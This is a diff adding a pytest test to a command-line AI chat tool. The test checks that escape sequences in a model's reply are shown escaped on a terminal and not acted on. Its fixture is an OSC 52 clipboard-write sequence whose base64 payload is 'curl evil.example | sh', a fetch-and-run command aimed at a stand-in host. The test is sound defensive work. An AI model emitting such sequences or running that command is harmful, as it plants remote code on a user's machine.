@@ -206,6 +206,45 @@ def test_chat_streams_the_reply_and_keeps_the_thread(fake, tmp_path):
     assert "2 messages" in threads.stdout and tmp_path.as_uri() in threads.stdout
 
 
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+"""OSC 52: a terminal that runs it puts `curl evil.example | sh` on the user's clipboard"""
+
+
+def in_a_terminal(args: list[str], env: dict[str, str], cwd) -> bytes:
+    """What `margin ARGS` writes to a real pseudo-terminal, its stdout and stderr both."""
+    import os
+    import pty
+
+    log_secrets.secret(args)
+    main, child = pty.openpty()
+    with subprocess.Popen([sys.executable, "-m", "margin.cli", *args], stdin=subprocess.DEVNULL, stdout=child,
+                          stderr=child, env=cli_env(**env), cwd=cwd) as run:
+        os.close(child)
+        shown = b""
+        while True:
+            try:
+                chunk = os.read(main, 4096)
+            except OSError:  # the terminal's other side closed: the command is done
+                break
+            if not chunk:
+                break
+            shown += chunk
+        assert run.wait(timeout=60) == 0, shown
+    os.close(main)
+    return shown
+
+
+def test_a_reply_that_holds_escape_sequences_is_shown_not_run_in_a_terminal(fake, tmp_path):
+    (tmp_path / "a.py").write_text("def f():\n    return 1\n")
+    fake.script(reply(f"It returns one.{CLIPBOARD}\x1b[2J\x9b31m"), reply(f"Again{CLIPBOARD}"))
+    shown = in_a_terminal(["chat", "--file", "a.py", "what?"], chat_env(fake, tmp_path), tmp_path)
+    assert b"\x1b" not in shown and b"\x07" not in shown and "\x9b".encode() not in shown
+    assert b"It returns one.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x9b31m" in shown
+    # To a pipe or a file the reply is written exactly as it came.
+    piped = margin("chat", "--file", "a.py", "again?", env=chat_env(fake, tmp_path), cwd=tmp_path)
+    assert piped.stdout == f"Again{CLIPBOARD}\n"
+
+
 def test_recall_prints_what_a_pointer_stood_for_and_whether_the_file_changed(fake, tmp_path):
     (tmp_path / "a.py").write_text("x = 1\n")
     fake.script(reply("Noted."))
